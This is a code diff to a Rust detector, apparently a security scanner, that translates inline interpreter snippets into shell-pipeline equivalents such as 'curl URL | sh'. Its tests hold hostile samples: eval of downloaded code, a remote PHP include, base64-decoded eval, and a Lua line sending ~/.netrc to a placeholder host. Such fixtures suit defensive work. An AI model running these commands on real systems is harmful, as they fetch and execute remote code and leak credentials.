@@ -162,7 +162,38 @@ pub(super) fn inline_effects(interpreter: &str, code: &str) -> Option<String> {
     if socket && runs {
         out.push("nc | sh".to_string());
     }
+    // Code the language runs from a string it fetched (`eval Net::HTTP.get(URI(URL))`, a
+    // shell download in backticks, `include("http://...")`) is `curl URL | sh`, the URL the
+    // first the code spells; from decoded text (`eval decode_base64(...)`) `base64 -d | sh`.
+    if has(InlineCap::Eval) {
+        let fetches = network || code.contains("curl ") || code.contains("wget ");
+        if fetches {
+            out.push(match first_url(code) {
+                Some(url) => format!("curl {url} | sh"),
+                None => "curl | sh".to_string(),
+            });
+        }
+        if has(InlineCap::Decode) {
+            out.push("base64 -d | sh".to_string());
+        }
+    }
     (!out.is_empty()).then(|| out.join("; "))
+}
+
+/// The first `http://` or `https://` URL `code` spells, up to a quote, blank or closing
+/// bracket; only plain URL characters, as it is put in a shell line unquoted.
+fn first_url(code: &str) -> Option<String> {
+    let at = code
+        .find("https://")
+        .into_iter()
+        .chain(code.find("http://"))
+        .min()?;
+    let url: String = code[at..]
+        .chars()
+        .take_while(|c| c.is_ascii_alphanumeric() || "-._~:/?@+,=%".contains(*c))
+        .collect();
+    let url = url.trim_end_matches([',', '.', ':']).to_string();
+    (url.len() > "https://".len()).then_some(url)
 }
 
 /// Where `name` is spelt in `code` as a whole name (at a word start, not followed by a letter,
@@ -583,6 +614,29 @@ mod tests {
                 "local h = require('socket.http'); h.request('https://c.example.test', io.open(os.getenv('HOME') .. '/.netrc'):read('a'))",
                 Some("cat ~/.netrc | curl"),
             ),
+            // Code the language runs from a download or from decoded text.
+            (
+                "ruby",
+                "eval Net::HTTP.get(URI(\"https://c.example.test/x\"))",
+                Some("curl https://c.example.test/x | sh"),
+            ),
+            (
+                "perl",
+                "eval `curl -s http://198.51.100.2/x`",
+                Some("curl http://198.51.100.2/x | sh"),
+            ),
+            (
+                "php",
+                "include(\"http://c.example.test/x.php\");",
+                Some("curl http://c.example.test/x.php | sh"),
+            ),
+            (
+                "perl",
+                "use MIME::Base64; eval decode_base64(\"aWQ=\")",
+                Some("base64 -d | sh"),
+            ),
+            ("ruby", "eval '1 + 1'", None),
+            ("perl", "eval { die }; print $@", None),
             // one capability alone is no chain
             ("php", "echo getenv('API_TOKEN');", None),
             (
